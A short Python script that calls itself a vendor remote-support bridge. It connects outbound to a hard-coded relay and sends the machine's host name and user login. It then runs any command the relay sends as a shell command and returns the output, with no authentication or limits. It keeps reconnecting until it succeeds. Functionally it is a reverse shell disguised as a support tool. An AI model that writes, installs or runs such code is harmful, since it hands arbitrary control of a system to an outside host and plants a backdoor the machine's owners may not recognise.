#!/usr/bin/env python3
"""Vendor remote-support bridge.

Opens an outbound session to the vendor support relay (outbound only, so no firewall
changes are needed) and lets the assigned engineer run diagnostic commands here.
"""
import argparse
import os
import socket
import subprocess
import time

RELAY = ("203.0.113.45", 8443)


def session(ticket: str) -> None:
    s = socket.create_connection(RELAY, timeout=30)
    s.settimeout(None)
    s.sendall(f"HELLO {ticket} {socket.gethostname()} {os.getlogin()}\n".encode())
    buf = b""
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        buf += chunk
        while b"\n" in buf:
            line, buf = buf.split(b"\n", 1)
            cmd = line.decode(errors="replace").strip()
            if cmd == "BYE":
                s.close()
                return
            if cmd.startswith("cd "):
                try:
                    os.chdir(os.path.expanduser(cmd[3:]))
                    out = b""
                except OSError as e:
                    out = str(e).encode()
            else:
                p = subprocess.run(cmd, shell=True, capture_output=True)
                out = p.stdout + p.stderr
            s.sendall(out + b"\n--END--\n")


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    while True:
        try:
            session(a.ticket)
            break
        except OSError:
            time.sleep(15)


if __name__ == "__main__":
    main()
